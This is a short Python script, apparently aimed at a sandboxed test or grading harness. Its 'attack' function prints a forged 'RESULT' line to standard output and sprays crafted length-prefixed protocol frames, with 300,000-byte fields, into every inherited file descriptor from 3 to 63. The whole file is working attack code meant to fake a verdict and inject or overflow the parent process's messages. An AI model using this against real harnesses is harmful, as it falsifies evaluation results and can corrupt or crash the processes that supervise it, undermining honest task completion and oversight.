import os

def frame(kind, body):
    return kind + len(body).to_bytes(4, "little") + body

def forge(frames):
    os.write(1, b"\nRESULT 'forged'\nEND\n")
    for fd in range(3, 64):
        try:
            os.write(fd, frames)
        except OSError:
            pass

def attack(x):
    big = b"\xff" * 300000
    field = len(big).to_bytes(4, "little") + big
    if x == 0:
        forge(frame(b"R", b"lmemory"))
        for index in range(1, 60):
            forge(frame(b"S", index.to_bytes(4, "little") + field) + frame(b"R", b"r\1" + field + bytes(4)))
    return x
